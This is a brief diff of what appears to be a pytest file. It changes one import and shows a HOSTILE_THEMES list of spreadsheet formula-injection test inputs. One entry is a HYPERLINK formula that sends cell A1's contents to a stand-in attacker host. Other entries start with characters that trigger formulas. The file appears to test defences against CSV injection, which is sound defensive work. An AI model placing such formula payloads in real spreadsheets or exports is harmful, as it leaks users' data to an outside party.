@@ -9,7 +9,7 @@ import io
 
 import pytest
 
-from conftest import add_document
+from security_world import add_document
 
 HOSTILE_THEMES = ["$\\foo$", "$x^2$ en $", '=HYPERLINK("http://aanvaller.example/?"&A1;"klik")', "+31 6 1234",
                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
